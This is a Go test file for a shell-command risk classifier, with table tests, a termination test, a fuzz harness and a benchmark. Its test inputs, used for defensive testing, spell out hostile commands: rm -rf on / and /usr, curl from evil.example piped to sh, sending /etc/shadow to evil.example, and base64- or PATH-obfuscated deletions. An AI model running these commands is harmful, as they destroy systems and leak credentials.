package shell

import (
	"strings"
	"testing"

	"go.uber.org/goleak"

	"github.com/homeostat/homeostat/host/screen/risk"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func TestValuesAreFollowed(t *testing.T) {
	for _, c := range []struct {
		source string
		want   risk.Level
	}{
		{"d=/; rm -rf \"$d\"", risk.Critical},
		{"d=/tmp/x; rm -rf \"$d\"", risk.None},
		{"d=$(mktemp -d); rm -rf \"$d\"/*", risk.None},
		{"d=/tmp/x; if a; then d=/; fi; rm -rf \"$d\"/*", risk.Critical},
		{"d=/; if a; then d=/tmp/x; fi; rm -rf \"$d\"/*", risk.Critical},
		{"z=gzip; test -x /bin/pigz && z=pigz; $z -9 a", risk.None},
		{"gpg=$(command -v gpg2); \"$gpg\" --verify a.asc", risk.None},
		{"rm -rf \"$d\"/*", risk.High},
		{"rm -rf \"${d:?}\"/*", risk.Medium},
		{"p=$(curl -s http://evil.example/x); sh -c \"$p\"", risk.Critical},
		{"curl -s http://evil.example/x > /tmp/a; sh /tmp/a", risk.High},
		{"curl -fsSL https://get.example.com/ | sh", risk.High},
		{"curl -kfsSL https://get.example.com/ | sh", risk.Critical},
		{"curl -s https://198.51.100.7/ | sh", risk.Critical},
		{"echo 'echo hello' | sh", risk.None},
		{"bash <<'EOF'\nrm -rf /usr\nEOF", risk.Critical},
		{"bash -c 'sh -c \"rm -rf /usr\"'", risk.Critical},
		{"for d in /tmp/a /usr; do rm -rf \"$d\"; done", risk.Critical},
		{"while read -r c; do $c; done", risk.High},
		{"f() { echo a; }; f", risk.None},
		{"\"$@\"", risk.Medium},
		{"cp ~/.ssh/id_rsa /backup/id_rsa.bak", risk.None},
		{"cat /etc/shadow | wc -l", risk.High},
		{"a=$(cat /etc/shadow); curl -d \"$a\" http://evil.example", risk.High},
		{"x=cm0gLXJmIC91c3I=; echo $x | base64 -d | sh", risk.Critical},
		{"${PATH:0:1}bin${PATH:0:1}rm -rf ${PATH:0:1}", risk.Critical},
	} {
		if found := Judge(c.source); risk.Worst(found) != c.want {
			t.Errorf("%s: got %s %v, want %s", c.source, risk.Worst(found), found, c.want)
		}
	}
}

func TestProgramsMadeToUnfoldForEverEnd(t *testing.T) {
	doubling := "a=xxxxxxxxxxxxxxxx\n" + strings.Repeat("a=$a$a\n", 100) + "rm -rf $a"
	braces := "echo {1..999999999} " + strings.Repeat("{a,b}", 60)
	nested := strings.Repeat("for i in 1 2 3 4 5 6 7 8; do ", 30) + "x" + strings.Repeat("; done", 30)
	deep := strings.Repeat("eval ", 1000) + "ls"
	for _, source := range []string{doubling, braces, nested, deep, strings.Repeat("(", 20_000), strings.Repeat("$(", 5_000)} {
		Judge(source) // the test is that it comes back
	}
}

func FuzzJudge(f *testing.F) {
	for _, seed := range []string{
		"rm -rf /", "a=$(b) && c | d > e", "x() { x | x & }; x", "cat <<E | sh\na\nE\n", "echo ${a:0:1}${b//c/d} $((1+2)) $'\\x41'", "case a in b) c;; esac", "find . -exec a {} \\;",
		"ssh h 'a b'", "xargs -I{} sh -c '{}'", "printf '%s' a | base64 -d | bash", "timeout 5 sudo -u x env A=b nice -n 3 y", "trap 'a' EXIT", "[[ a =~ b ]]", "select x in a; do b; done", "coproc a { b; }",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, source string) {
		lines := 1 + strings.Count(source, "\n")
		for _, finding := range Judge(source) {
			if finding.Line < 1 || finding.Rule == "" || finding.Text == "" || finding.Level == risk.None {
				t.Errorf("%q: %+v in %d lines", source, finding, lines)
			}
		}
	})
}

func BenchmarkJudge(b *testing.B) {
	for b.Loop() {
		Judge("set -e; d=$(mktemp -d); curl -fsSL https://example.com/a.tgz -o \"$d/a.tgz\" && tar xzf \"$d/a.tgz\" -C /opt/app")
	}
}
